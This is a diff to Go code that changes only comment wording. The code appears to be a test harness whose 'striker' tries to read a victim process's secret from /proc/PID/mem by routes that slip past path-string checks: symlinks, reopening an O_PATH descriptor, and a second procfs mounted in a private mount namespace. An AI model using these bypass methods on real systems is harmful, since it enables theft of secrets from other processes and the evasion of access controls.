@@ -10,17 +10,17 @@ import (
 	"golang.org/x/sys/unix"
 )
 
-// The same file by other paths: what compares path strings loses sight of it.
+// The mem file through other paths: a tool that compares path strings does not recognise it.
 
 func procDir(pid int) string { return filepath.Join("/proc", strconv.Itoa(pid)) }
 
-// openDir opens the victim's folder in procfs, which is open to everybody.
+// openDir opens the victim's folder in procfs, which everybody may do.
 func (s *striker) openDir() (int, error) {
 	dir, err := unix.Open(procDir(s.Victim.PID), unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
 	return dir, named("open "+procDir(s.Victim.PID), err)
 }
 
-// readOpened reads the secret from what open returned.
+// readOpened reads the secret through the descriptor that an open returned.
 func (s *striker) readOpened(what string, fd int, err error) error {
 	if err != nil {
 		return named(what, err)
@@ -67,7 +67,8 @@ func memSymlink(s *striker) error {
 	})
 }
 
-// memReopened opens the file twice: O_PATH passes no check, and the second time its name is a number.
+// memReopened opens the file twice: O_PATH passes no check, and the second path contains only a
+// descriptor's number.
 func memReopened(s *striker) error {
 	path, err := unix.Open(memPath(s.Victim.PID), unix.O_PATH|unix.O_CLOEXEC, 0)
 	if err != nil {
@@ -100,9 +101,9 @@ func memSecondProcfs(s *striker) error {
 	})
 }
 
-// inOwnMounts calls do in a mount namespace of this thread's own, which ends with the attempt.
+// inOwnMounts calls do in a new mount namespace of this thread, which ends with the attempt.
 func (s *striker) inOwnMounts(do func(dir string) error) error {
-	runtime.LockOSThread() // for good: no other goroutine is to find itself here
+	runtime.LockOSThread() // never unlocked: no other goroutine may run in this namespace
 	s.at("unshare(CLONE_NEWNS)")
 	if err := unix.Unshare(unix.CLONE_NEWNS); err != nil {
 		return named("unshare(CLONE_NEWNS)", err)
